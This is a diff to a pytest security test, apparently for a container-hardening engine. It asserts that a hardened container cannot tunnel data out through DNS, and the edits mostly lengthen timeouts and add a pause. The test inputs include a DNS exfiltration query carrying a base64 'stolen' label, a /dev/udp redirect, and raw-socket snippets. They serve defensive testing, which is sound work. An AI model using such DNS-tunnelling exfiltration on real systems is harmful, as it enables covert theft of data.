@@ -11,7 +11,7 @@ import docker
 import pytest
 from docker.models.containers import Container
 
-from core.waiting import until
+from core.waiting import pause, until
 from orchestrator.engine.hardening import CAPABILITIES
 from tests.security.attacked_range import (
     BLUE,
@@ -42,8 +42,8 @@ CAPABILITY_BITS = {
     "AUDIT_WRITE": 29,
 }
 PACKET_SOCKET = 'socket(my $s, 17, 3, 0x0300) or die "$!\\n"'
-# The engine's resolver answers for its containers within milliseconds.
-ASKING = ("env", "RES_OPTIONS=timeout:1 attempts:1", "getent")
+# The engine's resolver answers for its containers within milliseconds, unless it is busy.
+ASKING = ("env", "RES_OPTIONS=timeout:3 attempts:1", "getent")
 RAW_SOCKET = 'socket(my $s, 2, 3, 1) or die "$!\\n"'
 
 
@@ -108,9 +108,10 @@ def test_no_question_tunnels_out_by_the_resolver(
         attacked.said("bash", "-c", f"echo direct > /dev/udp/{address}/53")
         until(lambda: b"direct" in resolver.logs(), what="the control: it listens", within=SOON)
         with ordinary(docker_client, "sleep", "60", network=network, dns=[address]) as careless:
-            careless.exec_run(["timeout", "1", *ASKING, "ahostsv4", "leaks.test"])
+            careless.exec_run(["timeout", "3", *ASKING, "ahostsv4", "leaks.test"])
+            pause(1)  # until the engine has what the resolver said in its log
             hands_on = b"leaks" in resolver.logs()
-        tunnelled = ("timeout", "1", *ASKING, "ahostsv4", "c3RvbGVu.stolen-flag.test")
+        tunnelled = ("timeout", "3", *ASKING, "ahostsv4", "c3RvbGVu.stolen-flag.test")
         assert attacked.attempt(*tunnelled) != "done"
         assert b"stolen" not in resolver.logs()
     assert ("stolen" in attacked.said("cat", "/asked")) == hands_on, "to the host itself"
@@ -120,7 +121,7 @@ def test_no_question_tunnels_out_by_the_resolver(
 def free(attacked: Range, docker_client: docker.DockerClient) -> Iterator[Container]:
     """Lend a container on the team's network that may change its own network."""
     with ordinary(
-        docker_client, "sleep", "120", network=attacked.network(), CapAdd=["NET_ADMIN"]
+        docker_client, "sleep", "7200", network=attacked.network(), CapAdd=["NET_ADMIN"]
     ) as container:
         yield container
 
